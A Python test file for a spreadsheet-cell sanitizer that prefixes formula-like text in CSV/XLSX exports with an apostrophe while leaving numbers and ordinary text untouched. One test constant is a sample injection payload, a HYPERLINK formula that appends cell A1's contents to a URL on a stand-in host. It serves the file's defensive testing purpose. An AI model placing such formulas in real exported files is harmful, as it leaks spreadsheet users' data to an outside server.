"""CSV/XLSX injection: no text cell of a CSV or XLSX the app writes begins with what a
spreadsheet runs as a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return); numbers,
negative ones too, stay numbers."""

from __future__ import annotations

import polars as pl
import pytest

from security.cell_safety import safe_frame, safe_text

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Kliknij")'
NEGATIVE = -1234.5


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_beginning_like_a_formula_gets_an_apostrophe(start):
    assert safe_text(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("text", ["Bolesławiec", "", "'=już", " =spacja", "–5 (półpauza)", "a=b"])
def test_other_texts_are_unchanged(text):
    assert safe_text(text) == text


def test_only_text_columns_change():
    frame = pl.DataFrame(
        {"nazwa": [HYPERLINK, "Łódź", None], "wartosc": [NEGATIVE, 2.0, None], "rok": [1, -2, 3]}
    ).with_columns(pl.Series("kind", ["-a", "b", "c"], dtype=pl.Categorical))
    safe = safe_frame(frame)
    assert safe["nazwa"].to_list() == ["'" + HYPERLINK, "Łódź", None]
    assert safe["kind"].to_list() == ["'-a", "b", "c"]
    assert safe["wartosc"].to_list() == [NEGATIVE, 2.0, None]
    assert safe["rok"].to_list() == [1, -2, 3]
